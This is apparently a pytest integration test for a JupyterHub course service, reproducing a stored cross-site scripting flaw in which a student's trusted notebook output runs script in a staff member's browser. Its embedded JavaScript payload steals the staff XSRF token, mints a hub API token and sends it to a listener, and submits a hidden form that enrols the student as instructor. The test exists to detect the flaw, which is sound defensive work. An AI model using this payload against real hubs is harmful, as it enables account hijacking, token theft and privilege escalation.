"""A student plants JavaScript in their own notebook and waits for a staff member to
click "Help" on the live class view. Whatever origin the student's JupyterLab runs on,
their script runs there: if it is the hub's origin, it acts with the staff member's
cookies (reads the hub API, makes a hub token, posts the service's staff forms).

The script is a trusted HTML output: the student saves their notebook through their own
server's contents API with the cells marked trusted (as JupyterLab does after running
them), so their server signs it, and JupyterLab runs its `<script>` for anyone who opens
it there. A collector on loopback, standing for the student's own listener, records
what the script achieved.
"""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from tests.helpers import hubproc
from tests.helpers.browser import CHROMIUM, SHOTS, chromium
from tests.helpers.browserless import login, start_server

pytestmark = [pytest.mark.integration, pytest.mark.root]

USERS = {"nina": "nina-pass-123", "ivan": "ivan-pass-456"}
COURSE = "algebra"
NOTEBOOK = "lab1.ipynb"
SERVICE = "/services/coursehub"

# Runs in whoever opens the notebook in the student's JupyterLab. It reports to the
# collector: that it ran (and where), then each thing it got with the visitor's cookies.
PAYLOAD = """
(async () => {
  const report = (what, value) => fetch(COLLECTOR + "/" + what,
    {method: "POST", mode: "no-cors", body: String(value)});
  report("ran", location.origin);
  const frame = (url) => new Promise((resolve) => {
    const f = document.createElement("iframe");
    f.style.display = "none";
    f.onload = () => resolve(f);
    f.src = url;
    document.body.appendChild(f);
  });
  try {  // the hub's API as the visitor, and a hub token of theirs
    const page = await (await fetch("/hub/token")).text();
    const xsrf = page.match(/xsrf_token: "([^"]+)"/)[1];
    const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
    const who = await (await fetch("/hub/api/user", {headers})).json();
    report("hub-user", who.name);
    const made = await fetch("/hub/api/users/" + who.name + "/tokens",
      {method: "POST", headers, body: JSON.stringify({note: "help", expires_in: 600})});
    report("hub-token", (await made.json()).token);
  } catch (e) { report("hub-refused", e); }
  try {  // a staff form of the service as the visitor: enrol the student as instructor
    const f = await frame(SERVICE + "/course/" + COURSE + "/staff");
    const d = f.contentDocument;
    const form = d.createElement("form");
    form.method = "post";
    form.action = SERVICE + "/course/" + COURSE + "/staff/enrol";
    const fields = {_xsrf: d.querySelector("meta[name=coursehub-xsrf]").content,
                    usernames: STUDENT, role: "instructor"};
    for (const [name, value] of Object.entries(fields)) {
      const input = d.createElement("input");
      input.name = name; input.value = value; form.appendChild(input);
    }
    d.body.appendChild(form);
    f.onload = () => report("service-form", f.contentDocument.body.innerText.slice(0, 200));
    form.submit();
  } catch (e) { report("service-refused", e); }
})();
"""


class Collector:
    """The student's listener: records every POST as (path, body)."""

    def __init__(self) -> None:
        self.reports: list[tuple[str, str]] = []
        seen = self.reports

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802 - http.server's name
                length = int(self.headers.get("content-length") or 0)
                seen.append((self.path.strip("/"), self.rfile.read(length).decode()))
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def got(self, what: str) -> list[str]:
        return [body for path, body in list(self.reports) if path == what]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def collector() -> Iterator[Collector]:
    found = Collector()
    yield found
    found.close()


def _notebook(script: str) -> dict:
    """A notebook whose one cell has an HTML output with `script`, marked trusted as
    JupyterLab marks the cells it ran, so the student's server signs it on save."""
    cell = {
        "cell_type": "code",
        "id": "c1",
        "metadata": {"trusted": True},
        "source": "from IPython.display import HTML; HTML(page)",
        "outputs": [
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {
                    "text/plain": ["<IPython.core.display.HTML object>"],
                    "text/html": [f"<b>my work</b><script>{script}</script>"],
                },
            }
        ],
        "execution_count": 1,
    }
    meta = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return {"cells": [cell], "metadata": meta, "nbformat": 4, "nbformat_minor": 5}


def _site(start_hub: Callable[..., hubproc.RunningHub], repo: Path, label: str, **site: object):
    staff = {"ivan": "instructor"}
    hub = start_hub(
        label,
        outside_tmp=True,
        users=USERS,
        roles=staff,
        courses={COURSE: hubproc.Course(repo, ("nina",), staff)},
        **site,
    )
    for name, password in USERS.items():  # hub users exist from their first sign-in
        login(hub.url, name, password)
    return hub


@pytest.fixture(scope="module")
def repo(make_course_repo: Callable[..., Path]) -> Path:
    if not os.path.exists(CHROMIUM):
        pytest.skip(f"{CHROMIUM} is not installed (./dev setup installs Debian's chromium)")
    blank = _notebook("")
    blank["cells"][0]["outputs"] = []
    return make_course_repo({NOTEBOOK: json.dumps(blank), "course.yaml": "title: Lab\n"})


@pytest.fixture(scope="module")
def hub(start_hub: Callable[..., hubproc.RunningHub], repo: Path) -> hubproc.RunningHub:
    return _site(start_hub, repo, "staff-origin")


def plant(hub: hubproc.RunningHub, collector: Collector) -> str:
    """As nina: open the course notebook (her server starts, her copy is made), then
    save the hostile version of it through her own server. Returns her lab's URL."""
    nina = login(hub.url, "nina", USERS["nina"])
    link = f"{SERVICE}/open/{COURSE}/{NOTEBOOK}"
    opened = nina.get(link, follow_redirects=True)
    if "/lab/tree/" not in str(opened.url):
        events = start_server(nina, "nina", server=COURSE)
        assert events and events[-1].get("ready"), f"{events}\n{hub.log_tail()}"
        opened = nina.get(link, follow_redirects=True)
    assert "/lab/tree/" in str(opened.url), opened.text[-300:]
    lab = str(opened.url)
    script = (
        f"const COLLECTOR = {json.dumps(collector.url)}; const SERVICE = {json.dumps(SERVICE)};"
        f" const COURSE = {json.dumps(COURSE)}; const STUDENT = 'nina';" + PAYLOAD
    )
    server = lab.split("/lab/tree/")[0]
    saved = httpx.put(
        f"{server}/api/contents/{NOTEBOOK}",
        headers={
            "Authorization": f"token {hub.user_token('nina')}",
            "Host": httpx.URL(lab).netloc.decode(),
        },
        json={"type": "notebook", "format": "json", "content": _notebook(script)},
        timeout=30,
    )
    assert saved.status_code == 200, saved.text[-300:]
    return lab


def _sign_in(page, url: str, name: str) -> None:  # noqa: ANN001
    page.goto(url)
    page.fill("#username_input", name)
    page.fill("#password_input", USERS[name])
    page.click("#login_submit")


def help_the_student(hub: hubproc.RunningHub, collector: Collector, shot: str) -> str:
    """As ivan, in Chromium: the live view of nina's notebook, then "Help". Returns the
    text of the page Help opened once anything the student planted has had time to run."""
    with chromium() as browser:
        context = browser.new_context(viewport={"width": 1300, "height": 900})
        page = context.new_page()
        _sign_in(page, f"{hub.url}{SERVICE}/course/{COURSE}/live/view/nina/{NOTEBOOK}", "ivan")
        page.wait_for_selector("iframe.notebook-view", timeout=60_000)
        with context.expect_page(timeout=60_000) as opened:
            page.get_by_role("button", name="help").first.click()
        helped = opened.value
        try:
            helped.wait_for_load_state("load", timeout=120_000)
            # The student's JupyterLab, if Help opens it, shows the output in time.
            if "/oauth2/authorize" in helped.url:
                # The hub asks before a shared server learns who visits; the helper agrees.
                helped.get_by_role("button", name="Authorize").click()
                helped.wait_for_load_state("load", timeout=120_000)
            helped.wait_for_timeout(2000)
            if "/lab/" in helped.url:
                helped.wait_for_selector(".jp-OutputArea-output", timeout=120_000)
                helped.wait_for_timeout(8000)  # time for the planted script to finish
        finally:
            helped.screenshot(path=str(SHOTS / f"{shot}.png"), full_page=True)
        return helped.content()


def members(hub: hubproc.RunningHub) -> str:
    done = hub.cli("course", "show", COURSE)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


@pytest.mark.xfail(
    strict=True,
    reason="Help opens the student's live JupyterLab on the hub's origin: the student's "
    "script acts with the staff member's cookies",
)
def test_help_runs_no_student_script_with_the_staff_members_cookies(
    hub: hubproc.RunningHub, collector: Collector
) -> None:
    plant(hub, collector)
    help_the_student(hub, collector, "staff-origin-help")
    assert collector.got("hub-user") == [], collector.reports
    assert collector.got("hub-token") == [], collector.reports
    roles = members(hub)
    assert not any("nina" in line and "instructor" in line for line in roles.splitlines()), roles
    assert collector.got("ran") == [], collector.reports
